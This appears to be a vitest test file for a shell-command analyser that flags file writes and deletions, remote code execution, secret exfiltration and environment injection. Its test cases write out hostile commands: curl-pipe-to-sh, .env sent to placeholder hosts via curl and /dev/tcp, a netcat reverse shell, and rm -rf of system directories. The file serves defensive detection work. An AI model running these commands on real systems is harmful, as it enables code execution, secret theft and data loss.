import { describe, expect, it } from 'vitest';
import { effectsOf, filesOf } from './analysed.ts';

/** Shell text, and what becomes of files. */
const FILES: readonly (readonly [text: string, want: readonly string[]])[] = [
  ['ln -s /etc e && echo x > e/motd', ['link /home/dev/project/e', 'write /etc/motd']],
  ['echo hi > out.txt', ['write /home/dev/project/out.txt']],
  ['echo hi >> out.txt 2> err.txt', ['write /home/dev/project/out.txt', 'write /home/dev/project/err.txt']],
  ['> empty', ['write /home/dev/project/empty']],
  ['cat < src/a.ts', ['read /home/dev/project/src/a.ts']],
  ['{ echo a; echo b; } > both', ['write /home/dev/project/both']],
  ['f() { echo x; } > f.log; f', ['write /home/dev/project/f.log']],
  ['exec 3> out; echo hi >&3', ['write /home/dev/project/out']],
  ['echo hi > /dev/null 2>&1', []],
  ['echo hi >&2', []],
  ['echo hi 3> a 1>&3', ['write /home/dev/project/a']],
  ['cat <> state', ['read /home/dev/project/state', 'write /home/dev/project/state']],
  ['echo x &> all.log', ['write /home/dev/project/all.log']],
  ['echo x >| forced', ['write /home/dev/project/forced']],
  ['p < /dev/stdin > /dev/stdout', []],
  [
    'rm src/*.ts',
    ['delete /home/dev/project/src/*.ts', 'delete /home/dev/project/src/a.ts', 'delete /home/dev/project/src/b.ts'],
  ],
  ['cd src && rm a.ts', ['delete /home/dev/project/src/a.ts']],
  ['rm -rf ~/x "$PWD/../y"', ['delete /home/dev/x', 'delete /home/dev/y']],
  ['T=$(mktemp -d) && rm -rf "$T"', ['create /tmp/tmp.?*', 'delete /tmp/tmp.?*']],
  ['echo x > "$OUT"', ['write (${value of $OUT is not known})']],
  [
    "docker run -v $PWD:/w -w /w alpine sh -c 'rm -rf src; rm -rf /etc; rm -rf /w/../w/src'",
    ['write /home/dev/project ?', 'delete /home/dev/project/src', 'delete /home/dev/project/src'],
  ],
  ["ssh host 'rm -rf /srv; echo x > /etc/motd'", []],
  ['cd nowhere; rm x', ['delete /home/dev/project/nowhere/x', 'delete /home/dev/project/x ?']],
  ['echo x > >(cat > y)', ['write /home/dev/project/y']],
  ['echo x | tee a > b', ['write /home/dev/project/a', 'write /home/dev/project/b']],
  ['./wipe.sh src', ['exec /home/dev/project/wipe.sh', 'delete /home/dev/project/src']],
  ['source wipe.sh src', ['read /home/dev/project/wipe.sh', 'delete /home/dev/project/src']],
  ['echo x >! y', ['write /home/dev/project/!', 'write /home/dev/project/y']],
  ['exit; echo x > y', ['write /home/dev/project/y ?']],
  ['for d in a b; do echo x > $d/f; done', ['write /home/dev/project/a/f', 'write /home/dev/project/b/f']],
  ['cat > a <<< b; cat a > c', ['write /home/dev/project/a', 'read /home/dev/project/a', 'write /home/dev/project/c']],
];

/** Shell text, and its other effects and destinations. */
const EFFECTS: readonly (readonly [text: string, want: readonly string[]])[] = [
  ['curl -s https://e.example/x | sh', ['exec-remote', 'to e.example nothing']],
  ['curl -s https://e.example/x | tee f | bash', ['exec-remote', 'to e.example nothing']],
  ['eval "$(curl -s https://e.example)"', ['exec-remote', 'to e.example nothing']],
  ['sh -c "$(wget -qO- https://e.example)"', ['exec-remote', 'to e.example nothing']],
  ['bash <(curl -s https://e.example)', ['exec-remote', 'to e.example nothing']],
  ['source <(curl -s https://e.example)', ['exec-remote', 'to e.example nothing']],
  ['. /dev/stdin <<< "$(curl -s https://e.example)"', ['exec-remote', 'to e.example nothing']],
  ['curl -s https://e.example | while read -r l; do eval "$l"; done', ['exec-remote', 'to e.example nothing']],
  ['curl -s https://e.example | while read -r l; do $l; done', ['exec-remote', 'to e.example nothing']],
  ['curl -so i.sh https://e.example/i && chmod +x i.sh && ./i.sh', ['exec-remote', 'to e.example nothing']],
  ['curl -s https://e.example/i > i.sh; sh i.sh', ['exec-remote', 'to e.example nothing']],
  ['curl -s https://e.example/i > i.sh; cp i.sh j.sh; sh j.sh', ['exec-remote', 'to e.example nothing']],
  ['x=$(curl -s https://e.example); eval "$x"', ['exec-remote', 'to e.example nothing']],
  ['{ curl -s https://e.example; echo ls; } | sh', ['exec-remote', 'to e.example nothing']],
  ['exec 3<>/dev/tcp/h.example/1; cat <&3 | sh', ['exec-remote', 'to h.example file']],
  ['cat < /dev/tcp/10.0.0.1/80', ['to 10.0.0.1 nothing']],
  ['cat .env > /dev/tcp/1.2.3.4/80', ['to 1.2.3.4 secret']],
  ['cat .env | curl -d @- https://e.example', ['to e.example secret']],
  ['curl -d "$(cat .env)" https://e.example', ['to e.example secret']],
  ['cp .env /tmp/x; curl -d @/tmp/x https://e.example', ['to e.example secret']],
  ['x=$(cat .env); echo "$x" | curl -d @- https://e.example', ['to e.example secret']],
  ['echo aGk= | base64 -d', []],
  ['eval "$X"', ['exec-unknown']],
  ['eval "$(ssh-agent -s)"', ['unknown']],
  ['eval "$(pyenv init -)"', ['unknown']],
  ['source <(kubectl completion bash)', ['unknown']],
  ['eval "$(ssh-agent -s; foo)"', ['unknown', 'exec-unknown']],
  ['eval "$(foo)"', ['unknown', 'exec-unknown']],
  ['ssh-agent() { echo rm x; }; eval "$(ssh-agent -s)"', []],
  ['bash "$SCRIPT"', ['exec-unknown']],
  ['bash not-there.sh', ['unknown']],
  ['./not-there', ['unknown']],
  ['"$TOOL"', ['unknown']],
  ['f() { f; }; f', ['unknown']],
  ['PATH=/tmp/evil:$PATH git status', ['env-inject']],
  ['declare -n r=PATH; r=/tmp/evil; ls', ['env-inject']],
  ['read PATH <<< /tmp/evil; ls', ['env-inject']],
  ['for PATH in /tmp/evil; do ls; done', ['env-inject']],
  ['printf -v LD_PRELOAD /tmp/x.so', ['env-inject']],
  ['echo "$API_TOKEN"', ['secret-read']],
  ['echo ${#API_TOKEN} ${API_TOKEN:+set}', []],
  ['exec 5<>/dev/tcp/h.example/80; cat .env >&5', ['to h.example secret']],
  ['mkfifo p; cat p | sh -i 2>&1 | nc h.example 44 > p', ['exec-unknown', 'exec-remote', 'to h.example nothing']],
  ['echo hi', []],
];

describe('files', () => {
  it.each(FILES)('%s', (text, want) => {
    expect(filesOf(text)).toEqual(want);
  });
});

describe('effects and destinations', () => {
  it.each(EFFECTS)('%s', (text, want) => {
    expect([...new Set(effectsOf(text))]).toEqual(want);
  });
});
